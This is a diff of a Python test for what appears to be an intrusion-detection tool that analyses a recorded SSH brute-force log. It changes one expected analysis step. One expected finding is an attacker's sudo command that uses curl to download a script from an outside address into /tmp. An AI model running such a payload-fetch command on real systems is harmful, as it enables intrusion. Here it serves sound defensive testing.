@@ -64,7 +64,7 @@ def test_ssh_bruteforce_on_recorded_auth_log(catalogue, tmp_path):
     assert findings["compromised_users"] == ["deploy"]  # alice logged in from a clean address: not listed
     assert findings["intrusion_sources"] == ["198.51.100.23"]
     assert findings["sudo_commands"] == ["/usr/bin/curl -fsSL http://203.0.113.77/k.sh -o /tmp/k.sh"]
-    assert path[:4] == ["ran:failed_logins", "ran:invalid_users", "ran:attacker_logins", "ran:after_login"]
+    assert path[:4] == ["ran:failed_logins", "ran:accepted_logins", "ran:attacker_logins", "ran:after_login"]
 
 
 def test_account_compromise_finds_the_new_user(catalogue, tmp_path):
